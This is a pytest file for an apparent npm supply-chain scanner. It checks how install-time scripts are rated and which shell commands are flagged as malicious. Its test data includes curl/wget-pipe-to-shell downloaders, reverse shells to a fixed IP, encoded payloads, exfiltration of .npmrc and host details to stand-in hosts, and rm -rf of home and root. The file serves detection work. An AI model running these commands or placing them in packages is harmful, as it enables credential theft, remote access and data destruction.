"""npm lifecycle scripts: what they run, how severe, and the shell commands malware uses."""

from __future__ import annotations

import json

import pytest

from stockade.analysis.javascript.scripts import install_files, lifecycle_scripts
from stockade.analysis.javascript.shell import classify_command, split_segments
from stockade.analysis.model import Finding, Phase, Severity

from .helpers import hits, rules, scan


def manifest(**scripts: str) -> str:
    return json.dumps(
        {"name": "pkg", "version": "1.0.0", "main": "index.js", "scripts": scripts}, indent=2
    )


def script_findings(**scripts: str) -> list[Finding]:
    return scan({"package.json": manifest(**scripts), "index.js": "module.exports = 1;\n"})


def test_known_build_tool_is_an_info_capability() -> None:
    findings = script_findings(install="node-gyp-build || node-gyp rebuild")
    assert [(f.rule, f.severity, f.phase, f.line) for f in findings] == [
        ("js-install-script", Severity.INFO, Phase.INSTALL, 6)
    ]


@pytest.mark.parametrize(
    "command",
    [
        "prebuild-install -r napi || node-gyp rebuild",
        "husky install",
        "patch-package",
        "opencollective-postinstall || true",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "echo Thanks for installing!",
    ],
)
def test_ordinary_install_scripts_are_capabilities_only(command: str) -> None:
    findings = script_findings(postinstall=command)
    assert rules(findings) == {"js-install-script"}
    assert findings[0].severity is Severity.INFO


def test_node_file_script_names_the_install_file() -> None:
    findings = script_findings(postinstall="node install.js")
    assert findings[0].severity is Severity.LOW
    assert "node install.js" in findings[0].message
    commands = lifecycle_scripts(
        {"scripts": {"postinstall": "node ./scripts/setup", "test": "node t.js"}},
        "",
        ["scripts/setup.js", "t.js"],
    )
    assert install_files(commands) == {"scripts/setup.js"}


def test_scripts_that_only_build_or_test_are_not_reported() -> None:
    assert script_findings(build="tsc -p .", test="jest", prepublishOnly="npm test") == []


def test_prepare_is_reported_as_git_install_time() -> None:
    findings = script_findings(prepare="husky")
    assert "from git" in findings[0].message


def test_downloader_script_is_medium_and_a_threat_when_piped_to_a_shell() -> None:
    findings = script_findings(preinstall="curl -s https://get.example-tool.dev/i.sh | bash")
    assert hits(findings, "js-shell-download-exec") == [(6, Phase.INSTALL)]
    capability = next(f for f in findings if f.rule == "js-install-script")
    assert capability.severity is Severity.MEDIUM


def test_inline_node_code_is_analysed_as_install_time_code() -> None:
    code = "require('https').get('https://webhook.site/1f2e3d4c-0000-4000-8000-123456789abc')"
    findings = script_findings(postinstall=f'node -e "{code}"')
    assert hits(findings, "js-exfil-endpoint") == [(6, Phase.INSTALL)]
    assert all(f.path == "package/package.json" for f in findings)


def test_hidden_powershell_raises_the_script_severity() -> None:
    findings = script_findings(preinstall="powershell -w hidden -c Write-Host hi")
    assert findings[0].severity is Severity.MEDIUM
    assert "hidden PowerShell window" in findings[0].message


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("curl -fsSL https://x.example/a.sh | sh", "js-shell-download-exec"),
        ("wget -qO- http://x.example/a | bash", "js-shell-download-exec"),
        (
            "wget http://x.example/a -O /dev/shm/a && chmod +x /dev/shm/a && /dev/shm/a",
            "js-shell-download-exec",
        ),
        ('bash -c "$(curl -fsSL http://x.example/i)"', "js-shell-download-exec"),
        (
            "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
            "js-shell-download-exec",
        ),
        ("mshta http://x.example/a.hta", "js-shell-download-exec"),
        ("bash -i >& /dev/tcp/45.61.136.22/4444 0>&1", "js-shell-reverse-shell"),
        ("nc -e /bin/sh 45.61.136.22 4444", "js-shell-reverse-shell"),
        ("echo Y3VybCB4IHwgc2g= | base64 -d | sh", "js-shell-encoded"),
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", "js-shell-encoded"),
        ('curl -d "$(whoami)@$(hostname)" https://x.example/c', "js-shell-exfil"),
        ("curl --data-binary @$HOME/.npmrc https://x.example/c", "js-shell-exfil"),
        ("nslookup $(whoami).c9x2lq7w1k.oast.fun", "js-shell-exfil"),
        ("curl https://hooks.slack.com/services/T000/B000/XXXX", "js-shell-exfil"),
        ("rm -rf ~/*", "js-destructive"),
        ("rm -rf --no-preserve-root /", "js-destructive"),
    ],
)
def test_shell_commands_malware_uses(command: str, rule: str) -> None:
    assert rule in {signal.rule for signal in classify_command(command)}


@pytest.mark.parametrize(
    "command",
    [
        "node-gyp rebuild",
        "curl -fsSL https://npm.test/pkg.tgz -o pkg.tgz",
        "git clone https://example.com/repo.git && cd repo && npm install",
        "nc -z localhost 8080",
        "echo aGVsbG8= | base64 -d > hello.txt",
        "rm -rf ./build dist",
        "rm -rf node_modules/.cache",
        "ping -c 1 localhost",
        "curl --version",
    ],
)
def test_ordinary_shell_commands_are_quiet(command: str) -> None:
    assert classify_command(command) == []


def test_split_segments_drops_operators_and_keywords() -> None:
    assert split_segments("if [ -d .git ]; then npx lefthook install; fi") == [
        ["[", "-d", ".git", "]"],
        ["npx", "lefthook", "install"],
    ]
    assert split_segments("a && b || c | d") == [["a"], ["b"], ["c"], ["d"]]
    assert split_segments("echo 'unbalanced") == [["echo", "'unbalanced"]]


def test_encoded_blob_in_a_script_raises_its_severity() -> None:
    blob = "QmFzZTY0IGJsb2IgdGhhdCBpcyBub3QgZGVjb2RlZCBoZXJlIGJ1dCBjYXJyaWVkIGFsb25n"
    findings = script_findings(postinstall=f"node setup.js {blob}")
    assert [(f.rule, f.severity) for f in findings] == [("js-install-script", Severity.MEDIUM)]
    assert "encoded blob" in findings[0].message
